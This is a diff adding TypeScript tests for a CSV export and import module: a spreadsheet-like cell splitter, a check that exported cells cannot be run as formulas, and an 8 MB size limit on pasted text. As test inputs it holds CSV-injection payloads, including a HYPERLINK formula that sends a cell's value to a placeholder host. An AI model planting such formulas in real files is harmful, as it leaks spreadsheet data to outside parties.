@@ -100,3 +100,61 @@ describe('CSV layout 1', () => {
     );
   });
 });
+
+/**
+ * Splits CSV text into cells the way a spreadsheet program could (at commas, semicolons or tabs,
+ * honouring double quotes), for checking what a program would run as a formula.
+ */
+function spreadsheetCells(text: string): string[] {
+  const cells: string[] = [];
+  for (const line of text.replace(/^\uFEFF/, '').split('\r\n')) {
+    let cell = '';
+    let quoted = false;
+    let start = true;
+    for (let i = 0; i < line.length; i++) {
+      const c = line[i];
+      if (quoted) {
+        if (c === '"' && line[i + 1] === '"') (cell += '"'), i++;
+        else if (c === '"') quoted = false;
+        else cell += c;
+      } else if (c === '"' && start) (quoted = true), (start = false);
+      else if (c === ',' || c === ';' || c === '\t') cells.push(cell), (cell = ''), (start = true);
+      else if (c === ' ' && start) cell += c;
+      else (cell += c), (start = false);
+    }
+    cells.push(cell);
+  }
+  return cells;
+}
+const isNumberCell = (c: string) => c.trim() !== '' && Number.isFinite(Number(c));
+
+describe('CSV export: no cell a spreadsheet program would run as a formula', () => {
+  it('the description line is guarded like every other cell (a basedOn or description holding a formula)', () => {
+    for (const description of [
+      'workbook copy based on 2026.1,=HYPERLINK("http://x"&A1); checksum sha256:0',
+      '2026.1;+1+1\t-2+3,@SUM(A1), "=1+1",\'=x',
+    ]) {
+      const text = exportCsv(B, description);
+      const bad = spreadsheetCells(text).filter((c) => /^\s*[=+\-@]/.test(c) && !isNumberCell(c));
+      expect(bad, description).toEqual([]);
+      // still a comment line the import skips, and the table still reads back
+      const r = importCsv(text);
+      expect(r.rejected).toEqual([]);
+      expect(r.couples).toEqual(B.couples);
+    }
+  });
+});
+
+describe('CSV import: the same 8 MB limit for pasted text as for a chosen file', () => {
+  it('refuses text over 8 MB (bytes of UTF-8) without reading it', () => {
+    const head = `${header}\ncouple,Cu2+/Cu,Cu2+ + 2e- -> Cu,,0.3419,,CRC,note\n`;
+    const justUnder = head + '#'.repeat(8_000_000 - head.length - 1) + '\n';
+    expect(importCsv(justUnder).fileProblem).toBeUndefined();
+    const over = `${head}# ${'é'.repeat(4_000_000)}\n`; // 4,000,000 characters, 8,000,000 bytes of UTF-8 plus the rest
+    const t0 = performance.now();
+    const r = importCsv(over);
+    expect(performance.now() - t0).toBeLessThan(2000); // reading 8 MB of rows would take many seconds; counting bytes does not
+    expect(r.fileProblem).toMatch(/larger than 8 MB/);
+    expect(r.accepted).toEqual([]);
+  });
+});
